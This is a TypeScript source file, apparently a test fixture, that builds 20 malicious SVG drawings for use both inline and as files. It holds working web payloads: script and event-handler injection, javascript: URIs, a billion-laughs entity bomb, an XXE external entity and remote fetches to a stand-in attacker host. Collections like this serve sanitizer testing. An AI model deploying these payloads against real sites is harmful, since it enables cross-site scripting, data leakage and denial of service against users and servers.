/* Drawings that contain more than a drawing: 20, each written into the document and as a file of the folder. */
import { EVIL, RUN } from './scripts';

const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const HTML = 'xmlns="http://www.w3.org/1999/xhtml"';
const svg = (inner: string, more = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" ${more}>${inner}<rect width="9" height="9"/></svg>`;

const SVGS: readonly string[] = [
  svg('', `onload="${RUN}"`),
  svg(`<script>${RUN}</script>`),
  svg(`<script type="text/ecmascript"><![CDATA[${RUN}]]></script>`),
  svg(`<script href="${EVIL}/s.js"/>`),
  svg(`<script xlink:href="data:text/javascript,${encodeURIComponent(RUN)}"/>`, XLINK),
  svg(`<image href="${EVIL}/i.png" onerror="${RUN}"/>`),
  svg(`<use xlink:href="${EVIL}/u.svg#a"/>`, XLINK),
  svg(`<use href="data:image/svg+xml,${encodeURIComponent(svg(`<script>${RUN}</script>`))}#a"/>`),
  svg(`<style>@import url(${EVIL}/c.css);*{background:url(${EVIL}/b.png)}</style>`),
  svg(
    `<style>@font-face{font-family:e;src:url(${EVIL}/f.woff)}text{font-family:e}</style><text>e</text>`,
  ),
  svg(`<foreignObject><iframe ${HTML} src="javascript:${RUN}"></iframe></foreignObject>`),
  svg(
    `<foreignObject><body ${HTML} onload="${RUN}"><img src="x" onerror="${RUN}"/></body></foreignObject>`,
  ),
  svg(`<a href="javascript:${RUN}"><rect width="9" height="9" onclick="${RUN}"/></a>`),
  svg(`<animate attributeName="href" values="javascript:${RUN}" onbegin="${RUN}"/>`),
  svg(`<set attributeName="onmouseover" to="${RUN}" onend="${RUN}"/>`),
  svg(`<filter id="f"><feImage href="${EVIL}/e.png"/></filter><rect filter="url(#f)"/>`),
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${svg('<text>&c;</text>')}`,
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${EVIL}/x">]>${svg('<text>&x;</text>')}`,
  `<?xml-stylesheet href="${EVIL}/s.xsl" type="text/xsl"?>${svg('')}`,
  svg('<g>'.repeat(3000) + '</g>'.repeat(3000), `"><img src=x onerror="${RUN}"`),
];

/** The same 20 for both uses. */
export const INLINE_DRAWINGS = SVGS;
export const FILE_DRAWINGS = SVGS;
export const DRAWINGS = [...INLINE_DRAWINGS, ...FILE_DRAWINGS];
